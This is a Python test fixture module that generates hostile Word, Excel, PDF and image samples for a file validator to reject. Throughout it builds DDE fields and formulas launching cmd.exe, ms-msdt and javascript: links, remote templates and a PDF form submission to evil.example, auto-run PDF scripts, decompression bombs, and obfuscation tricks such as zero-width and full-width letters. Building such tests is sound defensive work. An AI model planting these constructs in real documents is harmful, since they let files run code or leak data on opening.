"""Files that act by themselves, each made by code, with a word of the sentence that refuses it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf

from tests.documents import files, ordinary
from tests.documents.files import DOCUMENT, EXCEL, WORD, office_of, packed, relations, types_of

CASES = Path(__file__).parent / "cases"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = f'xmlns:r="{DOCUMENT}"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
_ODF = "application/vnd.openxmlformats-officedocument."
_MS = "http://schemas.microsoft.com/office"
Case = tuple[str, bytes, str]  # a name of the file, its content, a word of the refusal


def all_files() -> dict[str, Case]:
    """By a name that says what each does."""
    return dict([*_word_links(), *_word_parts(), *_fields(), *_excel(), *_pdf(), *_hidden_in_pdf(), *_pictures()])


def word_with(*links: tuple[str, str, bool], body: str = "<w:p/>", **parts: Any) -> bytes:
    """A letter whose main part has these relationships and this body."""
    document = f"<w:document {W} {R}><w:body>{body}</w:body></w:document>"
    own = {WORD[0]: document, "word/_rels/document.xml.rels": relations(*links)}
    return office_of(WORD, own | parts.pop("parts", {}), parts.pop("overrides", {}))


def excel_with(*links: tuple[str, str, bool], parts: Any = None, overrides: Any = None, book: str = "") -> bytes:
    main = f"<workbook {R}>{book}</workbook>"
    own = {EXCEL[0]: main, "xl/_rels/workbook.xml.rels": relations(*links)}
    return office_of(EXCEL, own | (parts or {}), overrides)


def sheet(xml: str, root: str = "worksheet") -> bytes:
    kind = f"{_ODF}spreadsheetml.worksheet+xml"
    spaces = f'{R} xmlns:xm="{_MS}/excel/2006/main"'
    parts = {"xl/worksheets/sheet1.xml": f"<{root} {spaces}><sheetData>{xml}</sheetData></{root}>"}
    return excel_with(("worksheet", "worksheets/sheet1.xml", False), parts=parts, overrides={next(iter(parts)): kind})


def _word_links() -> Iterator[tuple[str, Case]]:
    for name, kind, target, word in (
        ("template of the web", "attachedTemplate", "https://evil.example/a.dotm", "template"),
        ("template of a network", "attachedTemplate", r"file:///\\evil\share\a.dotm", "template"),
        ("picture of the web", "image", "http://evil.example/a.png", "from outside"),
        ("picture of a network", "image", r"\\evil\a.png", "from outside"),
        ("linked object", "oleObject", "http://evil.example/a.hta", "object"),
        ("linked object of a moniker", "oleObject", "mhtml:http://evil.example/a.html!x-usc:http://e", "object"),
        ("part of another document", "subDocument", "http://evil.example/a.docx", "from outside"),
        ("frame", "frame", "http://evil.example/a.html", "from outside"),
        ("external chunk", "aFChunk", "http://evil.example/a.html", "object"),
        ("style sheet", "transform", "http://evil.example/a.xsl", "from outside"),
        ("mail merge source", "mailMergeSource", "file:///c:/a.mdb", "another file or from the web"),
        ("link to a network", "hyperlink", r"file://evil/share", "links to a file"),
        ("link with backslashes", "hyperlink", r"\\evil\share", "links to a file"),
        ("link to a program", "hyperlink", "ms-msdt:/id PCWDiagnostic", "links to a file"),
        ("link to a search", "hyperlink", "search-ms:query=a", "links to a file"),
        ("link to a script", "hyperlink", "java\tscript:alert(1)", "links to a file"),
        ("film", "video", "http://evil.example/a.mp4", "object"),
    ):
        yield name, ("a.docx", word_with((kind, target, True)), word)
    yield (
        "target that is external without saying so",
        (
            "a.docx",
            word_with(("image", "http://evil.example/a.png", False)),
            "from outside",
        ),
    )
    yield (
        "type of a stranger",
        (
            "a.docx",
            word_with(("http://evil.example/relationships/image", "a.png", False)),
            "a part that is not taken",
        ),
    )
    linked = '<w:p><a:blip xmlns:a="a" r:{}="rId1"/></w:p>'
    link = ("hyperlink", "https://evil.example/a.png", True)
    for attribute in ("link", "embed", "id"):
        body = linked.format(attribute)
        yield f"picture by a hyperlink ({attribute})", ("a.docx", word_with(link, body=body), "from outside")
    vml = '<w:pict><v:{} xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict>'
    yield (
        "old picture by its address",
        (
            "a.docx",
            word_with(body=vml.format("imagedata", 'src="http://evil.example/a.png"')),
            "from outside",
        ),
    )
    for element in ("imagedata", "fill", "stroke"):
        address = 'xmlns:o="urn:schemas-microsoft-com:office:office" o:href="http://evil.example/a.png"'
        yield (
            f"old picture by its origin ({element})",
            ("a.docx", word_with(body=vml.format(element, address)), "outside"),
        )
    yield (
        "old shape that leads to a network",
        (
            "a.docx",
            word_with(body=vml.format("shape", r'href="\\evil\a"')),
            "links to a file",
        ),
    )
    for name, inner in (
        ("script", "<script>fetch('/')</script>"),
        ("image", '<image href="http://evil.example/a.png"/>'),
        ("style", "<style>@import 'http://evil.example/a.css';</style>"),
        ("fill", '<rect style="fill:url(http://evil.example/a)"/>'),
    ):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
        word = "macros" if name == "script" else "from outside"
        parts = {"word/media/a.svg": svg}
        yield f"drawing with {name}", ("a.docx", word_with(("image", "media/a.svg", False), parts=parts), word)


def _word_parts() -> Iterator[tuple[str, Case]]:
    for name, body, word in (
        ("chunk", '<w:altChunk r:id="rId1"/>', "object"),
        ("object", '<w:object><o:OLEObject xmlns:o="o" ProgID="Package"/></w:object>', "object"),
        ("control", '<w:control r:id="rId1"/>', "object"),
        ("subdocument", '<w:subDoc r:id="rId1"/>', "from outside"),
        ("film of the web", "<webVideoPr embeddedHtml='&lt;iframe/&gt;'/>", "object"),
        ("mail merge", "<w:mailMerge><w:dataType w:val='native'/></w:mailMerge>", "another file or from the web"),
    ):
        yield f"element: {name}", ("a.docx", word_with(body=body), word)
    yield "macros", ("a.docx", files.docx(word__vbaProject_dot_bin=OLE), "macros")
    yield (
        "macros under another name",
        (
            "a.docx",
            word_with(("image", "media/a.png", False), parts={"word/media/a.png": OLE}),
            "macros",
        ),
    )
    yield "macros as printer settings", ("a.docx", files.docx(word__settings_dot_bin=OLE), "macros")
    yield "macros as XML", ("a.docx", files.docx(word__settings_dot_xml=OLE), "damaged")
    yield (
        "docm by another name",
        (
            "a.docx",
            office_of((WORD[0], "application/vnd.ms-word.document.macroEnabled.main+xml"), {}),
            "macros",
        ),
    )
    yield (
        "embedded object",
        (
            "a.docx",
            word_with(
                ("oleObject", "embeddings/a.bin", False),
                parts={"word/embeddings/a.bin": OLE},
                overrides={"word/embeddings/a.bin": f"{_ODF}oleObject"},
            ),
            "object",
        ),
    )
    yield (
        "embedded workbook",
        (
            "a.docx",
            word_with(
                ("package", "embeddings/a.xlsx", False),
                parts={"word/embeddings/a.xlsx": files.xlsx()},
                overrides={"word/embeddings/a.xlsx": f"{_ODF}spreadsheetml.sheet"},
            ),
            "object",
        ),
    )
    yield "chart with a hostile workbook", ("a.docx", _chart(sheet("<c><f>cmd|'/c calc'!A0</f></c>")), "formula")
    yield "chart with a workbook in a workbook", ("a.docx", _chart(_chart(files.xlsx(), EXCEL)), "object")
    yield "program as a picture", ("a.docx", files.docx(word__media__a_dot_png=b"MZ" + b"\0" * 99), "object")
    yield "page of the web as a picture", ("a.docx", files.docx(word__media__a_dot_png=b"<html>"), "not taken")
    yield "part without a type", ("a.docx", files.docx(word__page_dot_mht=b"MIME-Version: 1.0"), "not taken")
    yield "part of the web's type", ("a.docx", office_of(WORD, {"a.xml": "<a/>"}, {"a.xml": "text/html"}), "not taken")
    yield (
        "ribbon with callbacks",
        (
            "a.docx",
            office_of(
                WORD,
                {
                    "customUI/a.xml": "<customUI onLoad='a'/>",
                    "_rels/.rels": relations((f"{_MS}/2006/relationships/ui/extensibility", "customUI/a.xml", False)),
                },
            ),
            "macros",
        ),
    )
    yield (
        "add-in from the web",
        (
            "a.docx",
            office_of(
                WORD,
                {"word/webextensions/a.xml": "<we:webextension xmlns:we='we'/>"},
                {"word/webextensions/a.xml": "application/vnd.ms-office.webextension+xml"},
            ),
            "macros",
        ),
    )
    yield (
        "relative links into a network",
        (
            "a.docx",
            files.docx(
                docProps__app_dot_xml="<Properties><HyperlinkBase>\\\\evil\\share</HyperlinkBase></Properties>"
            ),
            "links to a file",
        ),
    )


def _chart(workbook: bytes, main: tuple[str, str] = WORD) -> bytes:
    folder = main[0].partition("/")[0]
    parts = {
        f"{folder}/charts/chart1.xml": "<c:chartSpace xmlns:c='c'/>",
        f"{folder}/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/a.xlsx", False)),
        f"{folder}/embeddings/a.xlsx": workbook,
    }
    kinds = {f"{folder}/charts/chart1.xml": f"{_ODF}drawingml.chart+xml"}
    kinds[f"{folder}/embeddings/a.xlsx"] = f"{_ODF}spreadsheetml.sheet"
    return office_of(main, parts, kinds)


def chart_with_data() -> bytes:
    """A letter with a chart and the workbook behind it, as Word writes it."""
    return _chart(ordinary.excel())


def _fields() -> Iterator[tuple[str, Case]]:
    for name, runs, word in (
        ("DDE", (' DDE "cmd" "/c calc" ',), "field"),
        ("DDEAUTO", (" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ",), "field"),
        ("DDEAUTO over several runs", (" DD", "EAU", "TO cmd"), "field"),
        ("DDE in small letters", (" ddeauto cmd",), "field"),
        ("DDE in full-width letters", (" \uff24\uff24\uff25 cmd",), "field"),
        ("DDE with unseen letters", (" D\u200bD\u200dE cmd",), "field"),
        ("quoted DDE", (' "DDE" cmd',), "field"),
        ("INCLUDEPICTURE", (' INCLUDEPICTURE "http://evil.example/a.png" \\d ',), "field"),
        ("INCLUDETEXT", (' INCLUDETEXT "\\\\\\\\evil\\\\a.docx" ',), "field"),
        ("LINK", (' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" ',), "field"),
        ("EMBED", (" EMBED Package ",), "field"),
        ("DATABASE", (' DATABASE \\d "c:\\\\a.mdb" ',), "field"),
        ("RD", (' RD "http://evil.example/a.docx" ',), "field"),
        ("macro button", (" MACROBUTTON AutoOpen Click",), "macros"),
        ("link to a network", (' HYPERLINK "\\\\\\\\evil\\\\share" ',), "links to a file"),
        ("link to a file", (' HYPERLINK "file:///c:/a" ',), "links to a file"),
    ):
        yield f"field: {name}", ("a.docx", ordinary.word(runs), word)
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    instruction = "<w:r><w:instrText>{}</w:instrText></w:r>"
    hidden = char.format("begin") + char.format("begin") + instruction.format("QUOTE 68 68 69") + char.format("end")
    hidden += instruction.format(" cmd") + char.format("end")
    yield "field: name made by a field", ("a.docx", word_with(body=f"<w:p>{hidden}</w:p>"), "field")
    yield (
        "field: never ended",
        (
            "a.docx",
            word_with(body=f"<w:p>{char.format('begin')}{instruction.format('DDEAUTO cmd')}</w:p>"),
            "field",
        ),
    )
    deleted = f"{char.format('begin')}<w:delInstrText>DDE cmd</w:delInstrText>{char.format('end')}"
    yield "field: deleted but there", ("a.docx", word_with(body=f"<w:p>{deleted}</w:p>"), "field")
    yield "field: simple", ("a.docx", word_with(body='<w:fldSimple w:instr=" DDEAUTO cmd "/>'), "field")
    yield (
        "field: in a header",
        (
            "a.docx",
            word_with(
                parts={"word/header1.xml": f'<w:hdr {W}><w:fldSimple w:instr="INCLUDEPICTURE http://e"/></w:hdr>'},
                overrides={"word/header1.xml": f"{_ODF}wordprocessingml.header+xml"},
            ),
            "field",
        ),
    )


def _excel() -> Iterator[tuple[str, Case]]:
    for name, kind, word in (
        ("DDE", "externalLink", "another file or from the web"),
        ("web query", "connections", "another file or from the web"),
        ("query table", "queryTable", "another file or from the web"),
        ("live data", "volatileDependencies", "another file or from the web"),
        ("dialog", "dialogsheet", "macros"),
    ):
        part = f"xl/{kind}1.xml"
        content = excel_with(
            (kind, f"{kind}1.xml", False), parts={part: "<x/>"}, overrides={part: f"{_ODF}spreadsheetml.{kind}+xml"}
        )
        yield f"workbook with {name}", ("a.xlsx", content, word)
    for kind in ("macrosheet", "intlmacrosheet"):
        part = "xl/macrosheets/sheet1.xml"
        overrides = {part: f"application/vnd.ms-excel.{kind}+xml"}
        content = excel_with((f"{_MS}/2006/relationships/xlMacrosheet", part, False), parts={part: "<x/>"})
        yield f"XLM sheet under a harmless type ({kind})", ("a.xlsx", content, "macros")
        yield f"XLM sheet ({kind})", ("a.xlsx", excel_with(parts={part: "<x/>"}, overrides=overrides), "macros")
    yield (
        "link to another workbook",
        (
            "a.xlsx",
            excel_with(("externalLinkPath", r"file:///\\evil\a.xlsx", True)),
            "another file or from the web",
        ),
    )
    yield "DDE link as plain XML", ("a.xlsx", files.xlsx(xl__x_dot_xml="<ddeLink ddeService='cmd'/>"), "another file")
    yield (
        "power query",
        (
            "a.xlsx",
            files.xlsx(
                customXml__item1_dot_xml="<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>UE</DataMashup>"
            ),
            "another file",
        ),
    )
    for name, formula, word in (
        ("DDE", "cmd|'/C calc'!A0", "formula"),
        ("DDE in pieces", "cmd<x/>|<x>'/C calc'</x>!A0", "formula"),
        ("DDE with a sign", "+cmd|'/C calc'!A0", "formula"),
        ("web service", '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', "formula"),
        ("web picture", '_xlfn.IMAGE("http://evil.example/a.png")', "formula"),
        ("program", 'CALL("Kernel32","WinExec","JCJ","calc",0)', "formula"),
        ("registered function", 'REGISTER.ID("a.dll","b")', "formula"),
        ("server", 'RTD("evil",,"a")', "formula"),
        ("other file", r"'\\evil\share\[a.xlsx]S'!A1", "another file"),
        ("link to a network", r'HYPERLINK("\\evil\share","a")', "links to a file"),
        ("link in two texts", r'HYPERLINK("\"&amp;"\evil\a","x")', "links to a file"),
        ("link in brackets", r'HYPERLINK(("\") &amp; ("\evil\a"),"x")', "links to a file"),
        ("link by numbers", r'HYPERLINK(CHAR(92)&amp;UNICHAR( 92 )&amp;"evil\a","x")', "links to a file"),
        ("link by repeating", r'HYPERLINK(REPT("\",2)&amp;"evil\a","x")', "links to a file"),
        ("link to a program", 'HYPERLINK("ms-msdt:/id PCWDiagnostic","x")', "links to a file"),
        ("link to a script in two texts", 'HYPERLINK("java"&amp;"script:alert(1)","x")', "links to a file"),
        ("link to a script by a number", 'HYPERLINK("javascript"&amp;CHAR(58)&amp;"alert(1)")', "links to a file"),
        ("link by a function", r'HYPERLINK(_xlfn.CONCAT("fi","le:","//evil/a"),"x")', "links to a file"),
    ):
        yield f"formula: {name}", ("a.xlsx", sheet(f"<row><c><f>{formula}</f></c></row>"), word)
    names = '<definedNames><definedName name="_xlnm.Auto_Open" {}>S!$A$1</definedName></definedNames>'
    yield "name that is a macro", ("a.xlsx", excel_with(book=names.format('xlm="1" function="1"')), "macros")
    for name in ("_xlnm.Auto_Open", "auto_close_again", "Auto_Activate"):
        book = f'<definedNames><definedName name="{name}">S!$A$1</definedName></definedNames>'
        yield f"name that starts: {name}", ("a.xlsx", excel_with(book=book), "macros")
    for root in ("macrosheet", "dialogsheet"):
        yield f"sheet that is a {root}", ("a.xlsx", sheet("<c><f>RUN(A2)</f></c>", root=f"xm:{root}"), "macros")
    yield (
        "DDE in a name",
        (
            "a.xlsx",
            excel_with(book="<definedNames><definedName>cmd|'/c calc'!A1</definedName></definedNames>"),
            "formula",
        ),
    )
    rule = "<dataValidation><formula1>cmd|'/c'!A1</formula1></dataValidation>"
    yield "DDE in a rule", ("a.xlsx", sheet(rule), "formula")
    yield "external pivot", ("a.xlsx", files.xlsx(xl__p_dot_xml="<cacheSource type='external'/>"), "another file")
    yield "button of a network's macro", ("a.xlsx", sheet(r"""<sp macro="'\\evil\a.xlam'!Sub"/>"""), "macros")
    yield (
        "binary workbook",
        (
            "a.xlsx",
            packed(
                {
                    "[Content_Types].xml": types_of(
                        {"xl/workbook.bin": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}
                    ),
                    "xl/workbook.bin": b"x",
                }
            ),
            "macros",
        ),
    )
    yield "Word by another name", ("a.xlsx", files.docx(), "another kind")


def _pdf() -> Iterator[tuple[str, Case]]:
    for name, body, word in (
        ("script", b"<< /S /JavaScript /JS (app.alert(1)) >>", "a script"),
        ("script without spaces", b"<</S/JavaScript/JS(x)>>", "a script"),
        ("script in figures", b"<< /S /J#61va#53cript /J#53 (x) >>", "a script"),
        ("script with padding", b"<< /S" + b" \n%x\n" * 2000 + b"/JavaScript /JS (x) >>", "a script"),
        ("script of the document", b"<< /Names << /JavaScript 5 0 R >> >>", "a script"),
        ("script as a value alone", b"<< /Foo << /JS (app.alert(1)) >> >>", "a script"),
        ("program", b"<< /S /Launch /F (cmd.exe) >>", "starts programs"),
        ("program for one system", b"<< /S /#4caunch /Win << /F (cmd.exe) >> >>", "starts programs"),
        ("form that is sent", b"<< /S /SubmitForm /F (http://evil.example) >>", "sends data away"),
        ("imported data", b"<< /S /ImportData /F (a.fdf) >>", "a link to a file"),
        ("other PDF", b"<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>", "a link to a file"),
        ("embedded PDF", b"<< /S /GoToE /T << /R /C >> >>", "a link to a file"),
        ("network address", b"<< /S /URI /URI (\\\\\\\\evil\\\\share) >>", "a link to a file"),
        ("file address", b"<< /S /URI /URI (FILE://evil/share) >>", "a link to a file"),
        ("file address with a gap", b"<< /S /URI /URI (fi\\000le:///c:/a) >>", "a link to a file"),
        ("script address", b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", "a link to a file"),
        ("base of all links", b"<< /URI << /Base (file:///) >> >>", "a link to a file"),
        ("embedded file", b"<< /Type /EmbeddedFile >>", "another file"),
        ("embedded files", b"<< /Names << /EmbeddedFiles 5 0 R >> >>", "another file"),
        ("file of a specification", b"<< /Type /Filespec /EF << /F 5 0 R >> >>", "another file"),
        ("attached file", b"<< /Type /Annot /Subtype /FileAttachment >>", "another file"),
        ("file of a network", b"<< /Type /Filespec /UF (\\\\\\\\evil\\\\a) >>", "a link to a file"),
        ("rich media", b"<< /Subtype /RichMedia >>", "film or sound"),
        ("model", b"<< /Type /Annot /Subtype /3D >>", "film or sound"),
        ("film", b"<< /S /Rendition /OP 0 >>", "film or sound"),
        ("sound", b"<< /Subtype /Sound >>", "film or sound"),
        ("XFA", b"<< /AcroForm << /XFA [(template) 5 0 R] >> >>", "XFA"),
        ("XFA in figures", b"<< /AcroForm << /#58FA 5 0 R >> >>", "XFA"),
        ("unknown action on opening", b"<< /OpenAction << /S /Weird >> >>", "not known"),
        ("unknown action of a page", b"<< /AA << /O << /S /Weird >> >> >>", "not known"),
        ("unknown command", b"<< /A << /S /Named /N /Quit >> >>", "not known"),
        ("script on opening", b"<< /OpenAction << /S /JavaScript /JS 9 0 R >> >>", "a script"),
        ("script of a page", b"<< /AA << /O << /S /JavaScript /JS (x) >> >> >>", "a script"),
        ("script after a jump", b"<< /A << /S /GoTo /Next [<< /S /JavaScript >>] >> >>", "a script"),
        ("data of elsewhere", b"<< /Length 0 /F (http://evil.example/a) >>\nstream\n\nendstream", "elsewhere"),
        ("page of elsewhere", b"<< /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> >>", "elsewhere"),
    ):
        yield f"PDF: {name}", ("a.pdf", files.pdf(body), word)


def _hidden_in_pdf() -> Iterator[tuple[str, Case]]:
    for name, saving, word in (
        ("in object streams", {"object_stream_mode": pikepdf.ObjectStreamMode.generate}, "a script"),
        ("under a password to change", {"encryption": pikepdf.Encryption(owner="x", user="")}, "protected"),
        ("under a password to read", {"encryption": pikepdf.Encryption(owner="x", user="y")}, "protected"),
    ):
        with pikepdf.open(io.BytesIO(files.pdf())) as made:
            script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
            made.Root.OpenAction = made.make_indirect(script)
            out = io.BytesIO()
            made.save(out, **saving)
        yield f"PDF: script {name}", ("a.pdf", out.getvalue(), word)
    plain = b"9 0 << /S /JavaScript /JS (x) >>"
    for name, head, data in (
        ("far from its data", b"/Filter /FlateDecode" + b" " * 9000, zlib.compress(plain)),
        ("behind a name", b"/Xstream (y) /Ystream\n(z) /Filter /FlateDecode", zlib.compress(plain)),
        ("in two packings", b"/Filter [/ASCIIHexDecode /FlateDecode]", zlib.compress(plain).hex().encode() + b">"),
        ("without packing", b"", plain),
    ):
        stream = b"<< /Type /Obj#53tm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream"
        yield f"PDF: unlisted objects {name}", ("a.pdf", files.pdf(stream % (head, len(data), data)), "a script")
    packed_twice = zlib.compress(plain).hex().encode() + b">"
    filters = b"/Filter [/ASCIIHexDecode /FlateDecode]"
    unlisted = b"7 0 obj\n" + stream % (filters, len(packed_twice), packed_twice) + b"\nendobj\n"
    lost = files.pdf()[:9] + unlisted + files.pdf()[9:]
    yield "PDF: packed twice and in no table", ("a.pdf", lost, "a script")
    before = files.pdf(b"<< /S /JavaScript /JS (x) >>")
    yield "PDF: script of an earlier version", ("a.pdf", before + files.pdf()[8:], "a script")
    yield "PDF: with a zip behind it", ("a.pdf", files.pdf() + files.docx(), "damaged")


def _pictures() -> Iterator[tuple[str, Case]]:
    head = b"\x89PNG\r\n\x1a\n"
    size = b"\0\0\x27\x10\0\0\x27\x10\x08\x02\0\0\0"
    chunks = ((b"IHDR", size), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    bomb = head + b"".join(files.chunk(*one) for one in chunks)
    yield "picture: a bomb", ("a.png", bomb, "million pixels")
    text = files.chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 50_000_000))
    yield "picture: a bomb in a remark", ("a.png", files.png(2, 2, text), "damaged")
    yield "picture: cut off", ("a.jpg", files.jpg()[:60], "damaged")
    yield "picture: a page of the web", ("a.png", head + b"<script>alert(1)</script>", "damaged")
    yield "picture: another kind", ("a.png", files.jpg(), "something else inside")
    for name, ending in (("protected.docx", "docx"), ("protected.xlsx", "xlsx")):
        yield f"password: {name}", (f"a.{ending}", (CASES / name).read_bytes(), "save it without and send that")
    yield "old Word by a new name", ("a.docx", OLE, "something else inside")
